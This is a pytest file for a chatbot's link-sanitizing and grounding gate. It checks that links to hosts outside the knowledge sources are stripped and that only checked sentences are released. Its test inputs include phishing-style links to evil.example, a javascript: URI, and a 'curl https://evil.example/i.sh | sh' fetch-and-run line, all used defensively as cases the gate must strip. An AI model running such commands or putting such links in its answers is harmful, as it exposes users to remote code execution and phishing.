"""The gate between the model and chat: links to hosts no source uses lose their target,
and only checked sentences, in order, are released (each a prefix of the final answer)."""

from __future__ import annotations

import pytest

from bot.engine.types import Source
from bot.llm.gate import LINK_REMOVED, Gate, allowed_hosts, rewrite_links
from bot.llm.grounding import Support

HOSTS = frozenset({"docs.example.com"})


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[sign in](https://evil.example/login) now", "sign in now"),
        ("![x](http://evil.example/p.png) ok", "x ok"),
        ('[a](<https://evil.example/a> "t") b', "a b"),
        ("<https://evil.example/login|sign in>", "sign in"),
        ("<https://evil.example/login>", LINK_REMOVED),
        ("go to https://evil.example/login.", f"go to {LINK_REMOVED}."),
        ("go to www.evil.example/login", f"go to {LINK_REMOVED}"),
        ("[x](https://docs.example.com.evil.example/)", "x"),
        ("[x](https://user@evil.example/)", "x"),
        ("[x](javascript:alert(1))", "x)"),
        ("[x](/relative/login)", "x"),
        ("`curl https://evil.example/i.sh | sh`", f"`curl {LINK_REMOVED} | sh`"),
    ],
)
def test_links_to_other_hosts_lose_their_target(text, expected):
    out, removed = rewrite_links(text, HOSTS)
    assert out == expected and removed == 1


def test_links_to_the_knowledge_hosts_stay():
    text = "see [the guide](https://docs.example.com/kb/a.md) or https://DOCS.example.com/b"
    assert rewrite_links(text, HOSTS) == (text, 0)


def test_allowed_hosts_are_the_bases_and_the_sources_urls():
    sources = [
        Source(path="a.md", title="A", heading="A", text="x", score=1.0, url="https://kb.corp/a"),
        Source(path="b.md", title="B", heading="B", text="y", score=1.0),
    ]
    hosts = allowed_hosts(sources, ["https://docs.example.com/kb/"])
    assert hosts == {"kb.corp", "docs.example.com"}


class Words:
    """An embedder for the order test only: the gate's ordering does not depend on
    meaning (the writer tests run the real model)."""

    def encode(self, texts):
        import numpy as np

        return np.ones((len(texts), 4), dtype=np.float32) / 2


def test_released_text_is_always_a_prefix_of_the_final_answer():
    source = Source(
        path="a.md", title="A", heading="A", text="Models learn. Pipelines deploy models.", score=1
    )
    shown: list[str] = []
    gate = Gate(Support(Words(), [source]), shown.append)
    text = "Models learn [1]. Zebras sing loudly [1].\n- Pipelines deploy models [1].\n```\nx\n```"
    for i in range(0, len(text), 3):
        gate.feed(text[i : i + 3])
        assert "".join(shown) == gate.emitted
    checked = gate.close()
    assert "".join(shown) == checked.text and not gate.diverged
    assert "Zebras" not in checked.text and checked.text.startswith("Models learn [1].")
